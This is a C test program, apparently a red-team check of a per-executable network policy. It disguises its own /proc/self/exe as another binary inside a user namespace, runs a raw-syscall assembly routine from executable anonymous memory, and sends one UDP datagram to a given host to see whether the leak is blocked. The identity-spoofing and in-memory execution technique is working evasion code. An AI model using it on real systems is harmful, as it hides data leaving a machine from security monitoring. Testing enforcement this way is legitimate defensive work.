/*
 * rt5_exe: a program that makes its leak look like another program's, through the kernel's
 * own record of its executable.
 *
 *   rt5_exe DISGUISE HOST PORT
 *       enters a user namespace of its own (where it holds CAP_SYS_ADMIN, enough for
 *       prctl(PR_SET_MM, PR_SET_MM_MAP) with an exe_fd), names its thread after DISGUISE
 *       (PR_SET_NAME), then runs a copy of a small routine from anonymous memory that unmaps
 *       this program's own file (the kernel refuses a new exe link while the old file is
 *       mapped), tries to point /proc/self/exe at DISGUISE, and sends one datagram to
 *       HOST:PORT (a leak) either way. Prints "exe: pid=P" first.
 *
 * Exit status: 0 when the exe link was changed and the datagram refused with EPERM, 1 when the
 * link could not be changed and the datagram was refused, 2 when the datagram was not
 * refused, 3 on a setup failure, 4 when no user namespace can be made here.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef PR_SET_MM_MAP
#define PR_SET_MM_MAP 14
#endif

struct mm_map {
    uint64_t start_code, end_code, start_data, end_data, start_brk, brk, start_stack;
    uint64_t arg_start, arg_end, env_start, env_end;
    uint64_t *auxv;
    uint32_t auxv_size;
    uint32_t exe_fd;
};

#define MAX_RANGES 16

struct params {
    uint64_t ranges[MAX_RANGES][2]; /* offset 0 */
    uint64_t nranges;               /* offset 256 */
    struct mm_map map;              /* offset 264, 104 bytes */
    struct sockaddr_in dst;         /* offset 368 */
};

_Static_assert(offsetof(struct params, nranges) == 256, "layout");
_Static_assert(offsetof(struct params, map) == 264, "layout");
_Static_assert(sizeof(struct mm_map) == 104, "layout");
_Static_assert(offsetof(struct params, dst) == 368, "layout");

/* The routine run from anonymous memory (rdi = struct params *): raw system calls only. */
extern char payload_start[], payload_end[];
__asm__(".text\n"
        ".globl payload_start\n"
        "payload_start:\n"
        "  mov %rdi, %r12\n"
        "  mov 256(%r12), %r13\n"
        "  mov %r12, %r14\n"
        "1:\n"
        "  test %r13, %r13\n"
        "  jz 2f\n"
        "  mov (%r14), %rdi\n"
        "  mov 8(%r14), %rsi\n"
        "  mov $11, %eax\n" /* munmap */
        "  syscall\n"
        "  add $16, %r14\n"
        "  dec %r13\n"
        "  jmp 1b\n"
        "2:\n"
        "  mov $35, %edi\n" /* PR_SET_MM */
        "  mov $14, %esi\n" /* PR_SET_MM_MAP */
        "  lea 264(%r12), %rdx\n"
        "  mov $104, %r10d\n"
        "  xor %r8d, %r8d\n"
        "  mov $157, %eax\n" /* prctl */
        "  syscall\n"
        "  mov %rax, %rbx\n" /* the prctl's result */
        "  mov $2, %edi\n" /* AF_INET */
        "  mov $2, %esi\n" /* SOCK_DGRAM */
        "  xor %edx, %edx\n"
        "  mov $41, %eax\n" /* socket */
        "  syscall\n"
        "  mov %rax, %rdi\n"
        "  lea 368(%r12), %rsi\n"
        "  mov $1, %edx\n"
        "  xor %r10d, %r10d\n"
        "  lea 368(%r12), %r8\n"
        "  mov $16, %r9d\n"
        "  mov $44, %eax\n" /* sendto */
        "  syscall\n"
        "  mov $2, %edi\n"
        "  cmp $-1, %rax\n" /* -EPERM */
        "  jne 5f\n"
        "  xor %edi, %edi\n"
        "  test %rbx, %rbx\n"
        "  jz 5f\n"
        "  mov $1, %edi\n"
        "5:\n"
        "  mov $231, %eax\n" /* exit_group */
        "  syscall\n"
        "  hlt\n"
        ".globl payload_end\n"
        "payload_end:\n");

/* Field N (1-based) of /proc/self/stat, counted after the command name. */
static uint64_t stat_field(const char *stat, int n) {
    const char *p = strrchr(stat, ')');
    if (!p)
        exit(3);
    p += 2; /* field 3 starts here */
    for (int i = 3; i < n; i++) {
        p = strchr(p, ' ');
        if (!p)
            exit(3);
        p++;
    }
    return strtoull(p, NULL, 10);
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: rt5_exe DISGUISE HOST PORT\n");
        return 3;
    }
    static struct params params;
    params.dst.sin_family = AF_INET;
    params.dst.sin_port = htons((unsigned short)atoi(argv[3]));
    if (inet_pton(AF_INET, argv[2], &params.dst.sin_addr) != 1)
        return 3;
    int disguise = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (disguise < 0) {
        perror(argv[1]);
        return 3;
    }
    printf("exe: pid=%d\n", getpid());
    fflush(stdout);
    if (unshare(CLONE_NEWUSER) != 0) {
        printf("unshare: no user namespace\n");
        return 4;
    }
    const char *base = strrchr(argv[1], '/');
    prctl(PR_SET_NAME, base ? base + 1 : argv[1], 0, 0, 0);

    /* This program's own file mappings. */
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n <= 0)
        return 3;
    self[n] = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    if (!maps)
        return 3;
    char line[8192];
    while (fgets(line, sizeof line, maps)) {
        unsigned long lo, hi;
        char path[4096] = "";
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095[^\n]", &lo, &hi, path) >= 2 && strcmp(path, self) == 0) {
            if (params.nranges == MAX_RANGES)
                return 3;
            params.ranges[params.nranges][0] = lo;
            params.ranges[params.nranges][1] = hi - lo;
            params.nranges++;
        }
    }
    fclose(maps);

    char stat[4096];
    FILE *f = fopen("/proc/self/stat", "r");
    if (!f || !fgets(stat, sizeof stat, f))
        return 3;
    fclose(f);
    struct mm_map *m = &params.map;
    m->start_code = stat_field(stat, 26);
    m->end_code = stat_field(stat, 27);
    m->start_stack = stat_field(stat, 28);
    m->start_data = stat_field(stat, 45);
    m->end_data = stat_field(stat, 46);
    m->start_brk = stat_field(stat, 47);
    m->arg_start = stat_field(stat, 48);
    m->arg_end = stat_field(stat, 49);
    m->env_start = stat_field(stat, 50);
    m->env_end = stat_field(stat, 51);
    m->brk = (uint64_t)syscall(SYS_brk, 0);
    m->auxv = NULL;
    m->auxv_size = 0;
    m->exe_fd = (uint32_t)disguise;

    size_t len = (size_t)(payload_end - payload_start);
    void *code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    void *data = mmap(NULL, sizeof params, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (code == MAP_FAILED || data == MAP_FAILED || len > 4096)
        return 3;
    memcpy(code, payload_start, len);
    memcpy(data, &params, sizeof params);
    ((void (*)(void *))code)(data);
    return 3; /* not reached */
}
